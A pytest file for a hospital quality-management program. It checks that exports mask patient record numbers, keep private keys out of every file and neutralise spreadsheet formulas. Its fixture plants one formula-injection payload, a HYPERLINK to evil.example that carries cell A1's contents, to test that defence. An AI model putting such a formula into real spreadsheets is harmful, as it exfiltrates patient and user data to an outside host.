"""Patient data in everything the program writes from the demo year: no full record number, no live formula, no key.

Every file is searched as raw bytes (UTF-8 and UTF-16), inside its zip members (xlsx, package), and for
PDFs also in the inflated content streams and in the text pdftotext extracts. A nurse who typed the
record number into a description too, and formula-like text in a description, are part of the data.
"""

from __future__ import annotations

import base64
import io
import os
import subprocess
import sys
import zipfile
from datetime import date

import pytest
from exported_bytes import layers, leaks
from sqlalchemy import select

from qmsdesk.db import models as m

PERIOD = "2026-10"
RARE = "𠮷𡈽"  # outside the Basic Multilingual Plane
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
DEMO_MONTHS = [f"2025-{mo:02d}" for mo in (11, 12)] + [f"2026-{mo:02d}" for mo in range(1, 11)]


@pytest.fixture(scope="module")
def demo(tmp_path_factory):
    """The demo year in the data folder, a description that repeats its record number, a formula; and its exports."""
    from qmsdesk.db.engine import open_database
    from qmsdesk.demo import generate

    root = tmp_path_factory.mktemp("patient")
    data = root / "data"
    data.mkdir()
    base = {k: v for k, v in os.environ.items() if k not in ("QMSDESK_KEY_PASSPHRASE", "PYTHON_KEYRING_BACKEND")}
    env = dict(base, QMSDESK_LANG="zh_CN", PYTHONIOENCODING="utf-8", QMSDESK_DATA_DIR=str(data),
               XDG_DATA_HOME=str(root / "xdg-data"), XDG_CONFIG_HOME=str(root / "xdg-config"),
               PYTHON_KEYRING_BACKEND="keyrings.alt.file.PlaintextKeyring", QMSDESK_PLAINTEXT_KEYRING="PlaintextKeyring",
               QT_QPA_PLATFORM="offscreen")
    dbf = data / "qmsdesk.db"
    db = open_database(dbf, actor="测试护士长")
    with db.session() as s:
        generate(s, until=PERIOD)
    with db.session(skip_period_lock=True) as s:
        events = s.scalars(select(m.AdverseEvent).where(m.AdverseEvent.medical_record_no.is_not(None))
                           .order_by(m.AdverseEvent.occurred_at)).all()
        october = [e for e in events if e.occurred_at.strftime("%Y-%m") == PERIOD]
        last = october[-1]
        last.description = f"{last.description}（病案号{last.medical_record_no}，患者{RARE}）"
        last.analysis = FORMULA
        mrns = sorted({e.medical_record_no for e in events})
        ids = _plant_in_the_years_text(s, mrns[0])
    db.close()
    assert len(mrns) >= 5 and all(len(n) >= 8 for n in mrns)

    def cli(*args) -> subprocess.CompletedProcess:
        done = subprocess.run([sys.executable, "-m", "qmsdesk", *map(str, args)], env=env, capture_output=True,
                              timeout=600)
        return done

    files: dict[str, bytes] = {}
    done = cli("submit", "--period", PERIOD, "--db", dbf, "--accept-warnings", "已核实")
    assert done.returncode == 0, done.stderr.decode()
    files["submit stdout"] = done.stdout + done.stderr
    package = next((data / "outbox").glob("*.qmspkg"))
    files[package.name] = package.read_bytes()
    out = root / "out"
    out.mkdir()
    for args in (("indicators", "template", out / "模板.xlsx", "--period", PERIOD),
                 ("indicators", "spc", "NUR-FALL", "--from", "2025-11", "--to", PERIOD, "--pdf", out / "spc.pdf"),
                 ("indicators", "pareto", "--from", "2025-11", "--to", PERIOD, "--pdf", out / "pareto.pdf"),
                 ("audit", "--limit", "100000"), ("status", "--period", PERIOD), ("package", "show", package)):
        done = cli(*args, "--db", dbf) if args[0] != "package" else cli(*args)
        assert done.returncode == 0, (args, done.stderr.decode())
        files[" ".join(map(str, args[:2]))] = done.stdout + done.stderr
    # the group's year on paper: binder, printed records, the quarter's analysis, the plan workbook
    for args in (("binder", "--year", "2026", "--out", out / "记录本.pdf"),
                 ("print", "minutes", "--meeting", ids["meeting"], "--out", out / "会议记录.pdf"),
                 ("print", "training", "--training", ids["training"], "--out", out / "培训记录.pdf"),
                 ("print", "signin", "--meeting", ids["meeting"], "--out", out / "签到表.pdf"),
                 ("print", "roster", "--out", out / "成员.pdf"),
                 ("analysis", "show", "--quarter", "2026Q3", "--out", out / "分析.pdf"),
                 ("plan", "show", "--year", "2026", "--out", out / "计划.xlsx")):
        done = cli(*args, "--db", dbf)
        assert done.returncode == 0, (args, done.stderr.decode())
        files[" ".join(map(str, args[:2]))] = done.stdout + done.stderr
    for f in out.iterdir():
        files[f.name] = f.read_bytes()

    # the quality office's side: demo units' packages imported, and the quarterly report (PDF and workbook)
    office_env = dict(env, QMSDESK_OFFICE_DB=str(root / "office.db"), QMSDESK_OFFICE_DIR=str(root / "office"),
                      PYTHON_KEYRING_BACKEND="keyring.backends.fail.Keyring", QMSDESK_KEY_PASSPHRASE="office-passphrase")
    for args in (("office", "demo", "--units", "1", "--departments", "1", "--months", "3", "--until", PERIOD,
                  "--out", root / "inbox", "--import"), ("office", "report", "--quarter", "2026Q3", "--out", root / "office-report")):
        done = subprocess.run([sys.executable, "-m", "qmsdesk", *map(str, args)], env=office_env,
                              capture_output=True, timeout=600)
        assert done.returncode == 0, (args, done.stderr.decode())
        files[" ".join(map(str, args[:2]))] = done.stdout + done.stderr
    office_files = [f for f in (root / "office-report").rglob("*") if f.is_file()]
    assert {f.suffix for f in office_files} >= {".pdf", ".xlsx"}
    files.update({f"office/{f.name}": f.read_bytes() for f in office_files})

    # every month's workbook, PDF and data.json, as the package would carry them
    from qmsdesk.services.month_package import build_reports
    from qmsdesk.sync.records import canonical_json, month_records

    db = open_database(dbf, actor="测试护士长")
    with db.session() as s:
        for period in DEMO_MONTHS:
            reports = build_reports(s, period, charts=period == PERIOD)
            files[f"{period}/report.xlsx"] = reports.workbook
            files[f"{period}/report.pdf"] = reports.pdf
            files[f"{period}/data.json"] = canonical_json(month_records(s, period))
        s.rollback()
    db.close()
    return {"root": root, "data": data, "env": env, "files": files, "mrns": mrns, "october": october,
            "package": package, "db": dbf}


def _plant_in_the_years_text(s, mrn: str) -> dict[str, str]:
    """A record number typed into October's minutes and training topic, the plan, duties and an analysis."""
    from sqlalchemy import update

    typed = f"（见病案号 {mrn} 患者）"
    meeting = s.scalars(select(m.Meeting).where(m.Meeting.date >= date(2026, 10, 1))).first()
    training = s.scalars(select(m.TrainingSession).where(m.TrainingSession.date >= date(2026, 10, 1))).first()
    s.execute(update(m.Meeting).where(m.Meeting.id == meeting.id).values(minutes=f"{meeting.minutes}{typed}"))
    s.execute(update(m.TrainingSession).where(m.TrainingSession.id == training.id).values(topic=f"跌倒防范{typed}"))
    s.execute(update(m.PlanFocus).values(details=f"重点关注{typed}"))
    s.execute(update(m.GroupMembership).values(duties=f"负责随访{typed}"))
    s.execute(update(m.AnalysisProblem).values(cause=f"夜班人力不足{typed}"))
    s.execute(update(m.QualityAnalysis).values(summary=f"总体平稳{typed}"))
    return {"meeting": str(meeting.id), "training": str(training.id)}


def test_no_export_holds_a_full_medical_record_number(demo):
    assert leaks(demo["files"], demo["mrns"]) == []


def test_the_exports_still_tell_events_apart_by_the_masked_tail(demo):
    from qmsdesk.reports.masking import mask_record_no

    workbook = demo["files"][f"{PERIOD}/report.xlsx"]
    text = b"".join(d for _n, d in layers("x", workbook)).decode("utf-8", "replace")
    for event in demo["october"]:
        assert mask_record_no(event.medical_record_no) in text
    assert RARE in text  # rare characters survive the workbook
    assert RARE in demo["files"][f"{PERIOD}/data.json"].decode("utf-8")


def test_the_log_and_data_folder_hold_no_full_record_number(demo, monkeypatch, capsys):
    """A crash while a record number is in the message writes it masked (the support log is sent by e-mail)."""
    from qmsdesk import cli
    from qmsdesk.commands import status as status_command

    monkeypatch.setenv("QMSDESK_DATA_DIR", str(demo["data"]))

    def broken(_args):
        raise RuntimeError(f"事件病案号 {demo['mrns'][0]} 汇总失败")

    monkeypatch.setattr(status_command, "status_command", broken)
    assert cli.main(["status", "--period", PERIOD, "--db", str(demo["db"])]) == 1
    capsys.readouterr()
    logs = {p.name: p.read_bytes() for p in demo["data"].glob("qmsdesk.log*")}
    assert logs, "the crash was not logged"
    assert leaks(logs, demo["mrns"]) == []
    others = {str(p): p.read_bytes() for p in demo["data"].rglob("*")
              if p.is_file() and not p.name.startswith("qmsdesk.db")}  # the database itself holds the full numbers
    assert leaks(others, demo["mrns"]) == []


def _workbooks(files: dict[str, bytes]) -> dict[str, bytes]:
    return {n: b for n, b in files.items() if b[:2] == b"PK" and b"xl/workbook.xml" in b}


def test_no_workbook_the_program_writes_runs_user_text_as_a_formula(demo):
    from openpyxl import load_workbook

    books = _workbooks(demo["files"])
    with zipfile.ZipFile(demo["package"]) as zf:
        books["package report.xlsx"] = zf.read("report.xlsx")
    assert len(books) >= 13
    seen_formula_text = False
    for name, blob in books.items():
        wb = load_workbook(io.BytesIO(blob))
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for c in row:
                    assert c.data_type != "f", f"{name} {ws.title}!{c.coordinate} is a formula: {c.value!r}"
                    if isinstance(c.value, str) and "HYPERLINK" in c.value:
                        seen_formula_text = True
    assert seen_formula_text, "the formula-like analysis text should be in a workbook, as text"


def _private_key_forms(raw: bytes) -> list[bytes]:
    forms = [raw, base64.b64encode(raw), base64.urlsafe_b64encode(raw).rstrip(b"="), raw.hex().encode(),
             raw.hex().upper().encode()]
    return [f for f in forms if len(f) >= 32]


def test_private_keys_never_appear_in_plaintext(demo):
    """The unit's and the office's private keys: not in the data folder, the logs, the package or any export."""
    from keyrings.alt.file import PlaintextKeyring

    from qmsdesk.sync import crypto
    from qmsdesk.sync.keys import (
        KeyringStore,
        PassphraseFileStore,
        key_file_path,
        load_office_keys,
        load_unit_key,
    )

    backend = PlaintextKeyring()
    backend.file_path = str(demo["root"] / "xdg-data" / "python_keyring" / "keyring_pass.cfg")
    key = load_unit_key(KeyringStore(backend), *_unit_codes(demo))
    secrets = _private_key_forms(crypto.raw_private(key))
    # The office keys of the same run live in the passphrase key file inside the scanned data folder.
    office = load_office_keys(PassphraseFileStore(key_file_path(demo["data"]), "office-passphrase"))
    assert office is not None
    secrets += _private_key_forms(crypto.raw_private(office.signing))
    secrets += _private_key_forms(crypto.raw_private(office.encryption))
    scanned = dict(demo["files"])
    scanned.update({str(p): p.read_bytes() for p in demo["data"].rglob("*") if p.is_file()})
    hits = []
    for name, blob in scanned.items():
        for where, data in layers(name, blob):
            hits += [f"{where}: {form[:8]!r}…" for form in secrets if form in data]
    assert hits == []


def _unit_codes(demo) -> tuple[str, str]:
    from qmsdesk.db.engine import open_database

    db = open_database(demo["db"])
    try:
        with db.session() as s:
            unit = s.scalars(select(m.Unit)).one()
            return unit.hospital_code, unit.department_code
    finally:
        db.close()
